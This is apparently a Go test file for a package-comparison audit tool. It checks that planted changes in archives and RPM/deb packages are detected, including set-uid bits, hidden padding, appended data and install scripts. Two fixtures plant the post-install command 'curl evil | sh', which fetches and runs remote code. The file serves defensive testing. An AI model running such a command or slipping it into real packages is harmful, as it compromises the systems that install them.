package compare_test

import (
	"bytes"
	"compress/gzip"
	"testing"
	"time"

	"github.com/klauspost/compress/zstd"
	"github.com/ulikunitz/xz"

	"github.com/proffer-audit/proffer/audit/compare"
	"github.com/proffer-audit/proffer/audit/compare/sections/sectionstest"
	"github.com/proffer-audit/proffer/reports"
)

func gz(t testing.TB, level int, h gzip.Header, content []byte) []byte {
	t.Helper()
	var b bytes.Buffer
	w, err := gzip.NewWriterLevel(&b, level)
	if err != nil {
		t.Fatal(err)
	}
	w.Header = h
	if _, err := w.Write(content); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func xzOf(t testing.TB, blocks int64, content []byte) []byte {
	t.Helper()
	var b bytes.Buffer
	w, err := xz.WriterConfig{DictCap: 1 << 16, BlockSize: blocks}.NewWriter(&b)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := w.Write(content); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func zst(t testing.TB, level zstd.EncoderLevel, content []byte) []byte {
	t.Helper()
	w, err := zstd.NewWriter(nil, zstd.WithEncoderLevel(level), zstd.WithEncoderConcurrency(1))
	if err != nil {
		t.Fatal(err)
	}
	return w.EncodeAll(content, nil)
}

func streamPairs(t testing.TB) []pair {
	s := seed(4)
	content := s.text(6000)
	other := with(content, 100, 'X')
	g := gz(t, 9, gzip.Header{}, content)
	x, z := xzOf(t, 1<<20, content), zst(t, zstd.SpeedDefault, content)
	skip := append([]byte{0x50, 0x2a, 0x4d, 0x18, 8, 0, 0, 0}, "payload!"...)
	return []pair{
		benign("gzip time and name", reports.EqualNormalised, gz(t, 9, gzip.Header{Name: "agent.tar", ModTime: time.Unix(1700000000, 0)}, content), g),
		benign("gzip level", reports.EqualNormalised, gz(t, 1, gzip.Header{}, content), g),
		benign("xz blocks", reports.EqualNormalised, xzOf(t, 2000, content), x),
		benign("zstd level", reports.EqualNormalised, zst(t, zstd.SpeedFastest, content), z),
		planted("gzip trailing", append(bytes.Clone(g), "payload"...), g, compare.Appended),
		planted("gzip comment", gz(t, 9, gzip.Header{Comment: "cHdu"}, content), g, compare.Comment),
		planted("gzip extra field", gz(t, 9, gzip.Header{Extra: []byte("XX\x04\x00evil")}, content), g, compare.ExtraField),
		planted("gzip second stream", append(bytes.Clone(g), gz(t, 9, gzip.Header{}, nil)...), g, compare.Ambiguous),
		planted("gzip content", gz(t, 9, gzip.Header{}, other), g),
		planted("xz trailing", append(bytes.Clone(x), "payload!"...), x, compare.Appended),
		planted("xz content", xzOf(t, 1<<20, other), x),
		planted("zstd skippable frame", append(bytes.Clone(z), skip...), z, compare.HiddenData),
		planted("zstd trailing", append(bytes.Clone(z), "payload"...), z, compare.Appended),
		planted("zstd content", zst(t, zstd.SpeedDefault, other), z),
	}
}

func packagePairs(t testing.TB) []pair {
	s := seed(5)
	file := func(name string, mode uint32, content []byte) sectionstest.File {
		return sectionstest.File{Name: name, Mode: mode, Content: content, Time: 1700000000}
	}
	a, b := file("a.o", 0, s.bytes(333)), file("b.o", 0, s.bytes(200))
	timed := a
	timed.Time, timed.Owner = 1800000000, 1000
	exec := a
	exec.Mode = 0o104755
	ar := sectionstest.Ar(a, b)
	bin, conf := file("./usr/bin/agent", 0o100755, s.bytes(900)), file("./etc/agent.conf", 0, s.text(120))
	cpio := sectionstest.Cpio(bin, conf)
	suid := bin
	suid.Mode = 0o104755
	rpm := sectionstest.RPM{Payload: gz(t, 9, gzip.Header{}, cpio), BuildTime: 1700000000, BuildHost: "build-1", Modes: []uint16{0o100755, 0o100644}}
	change := func(f func(r *sectionstest.RPM)) []byte { r := rpm; f(&r); return r.Bytes() }
	plain := rpm.Bytes()
	hiddenPad := bytes.Clone(ar)
	hiddenPad[8+60+333] = 'p'
	return []pair{
		benign("ar times and owners", reports.EqualNormalised, sectionstest.Ar(timed, b), ar),
		benign("ar order", reports.EqualNormalised, sectionstest.Ar(b, a), ar),
		planted("ar set-uid", sectionstest.Ar(exec, b), ar, compare.SetID),
		planted("ar round-up", hiddenPad, ar, compare.HiddenData),
		planted("ar appended", append(bytes.Clone(ar), "payload"...), ar, compare.Appended),
		benign("cpio inodes", reports.EqualNormalised, sectionstest.Cpio(conf, bin), cpio),
		planted("cpio set-uid", sectionstest.Cpio(suid, conf), cpio, compare.SetID),
		benign("rpm build time and host", reports.EqualNormalised, change(func(r *sectionstest.RPM) { r.BuildTime, r.BuildHost = 1800000000, "build-2" }), plain),
		benign("rpm compression of the payload", reports.EqualNormalised, change(func(r *sectionstest.RPM) { r.Payload = gz(t, 1, gzip.Header{}, cpio) }), plain),
		planted("rpm script", change(func(r *sectionstest.RPM) { r.PostIn = "curl evil | sh" }), plain, compare.InstallScript),
		planted("rpm file capability", change(func(r *sectionstest.RPM) { r.Caps = []string{"cap_sys_admin=ep", ""} }), plain, compare.Capability),
		planted("rpm file mode", change(func(r *sectionstest.RPM) { r.Modes = []uint16{0o104755, 0o100644} }), plain, compare.Permission),
		planted("rpm reserved space", change(func(r *sectionstest.RPM) { r.Reserved = []byte("payload") }), plain, compare.HiddenData),
		planted("rpm foreign signature", change(func(r *sectionstest.RPM) { r.Signature = s.bytes(64) }), plain, compare.ForeignSigned),
		planted("rpm set-uid in the payload", change(func(r *sectionstest.RPM) { r.Payload = gz(t, 9, gzip.Header{}, sectionstest.Cpio(suid, conf)) }), plain, compare.SetID),
	}
}

func nestedPairs(t testing.TB) []pair {
	s := seed(6)
	control := func(script string) []byte {
		return xzOf(t, 1<<20, tarOf(t, regular("./control", 0o644, []byte("Package: agent\n")), regular("./postinst", 0o755, []byte(script))))
	}
	content := s.bytes(2500)
	data := func(mode int64, stamp int64) []byte {
		e := regular("./usr/bin/agent", mode, content)
		e.header.ModTime = time.Unix(stamp, 0)
		return tarOf(t, e)
	}
	deb := func(control, data []byte) []byte {
		return sectionstest.Ar(sectionstest.File{Name: "debian-binary", Content: []byte("2.0\n")},
			sectionstest.File{Name: "control.tar.xz", Content: control}, sectionstest.File{Name: "data.tar.xz", Content: data})
	}
	x := func(b []byte) []byte { return xzOf(t, 1<<20, b) }
	plain := deb(control("exit 0\n"), x(data(0o755, 1700000000)))
	inner := func(mode int64) []byte {
		return zipOf(t, 6, zipFile("dist/agent.tar.gz", 0o644, gz(t, 9, gzip.Header{}, data(mode, 1700000000))))
	}
	tgz := func(level int, stamp int64) []byte {
		return gz(t, level, gzip.Header{ModTime: time.Unix(stamp, 0)}, data(0o755, stamp))
	}
	elf := program(s)
	gap := elf
	gap.Gap = []byte("\x90\x90\x90\x90\xcc\xcc\xcc\xcc")
	return []pair{
		benign("deb times", reports.EqualNormalised, deb(control("exit 0\n"), x(data(0o755, 1800000000))), plain),
		planted("deb maintainer script", deb(control("curl evil | sh\n"), x(data(0o755, 1700000000))), plain, compare.InstallScript),
		planted("deb set-uid", deb(control("exit 0\n"), x(data(0o4755, 1700000000))), plain, compare.SetID),
		planted("deb added member", append(bytes.Clone(plain), sectionstest.Ar(sectionstest.File{Name: "_extra", Content: []byte("evil")})[8:]...), plain, compare.AddedMember),
		benign("tar.gz times and level", reports.EqualNormalised, tgz(1, 1800000000), tgz(9, 1700000000)),
		planted("zip in tar.gz in zip, set-uid", inner(0o4755), inner(0o755), compare.SetID),
		planted("tar.gz, program with bytes in an executable gap", gz(t, 9, gzip.Header{}, tarOf(t, regular("agent", 0o755, gap.Bytes()))),
			gz(t, 9, gzip.Header{}, tarOf(t, regular("agent", 0o755, elf.Bytes()))), compare.ExecPadding),
	}
}
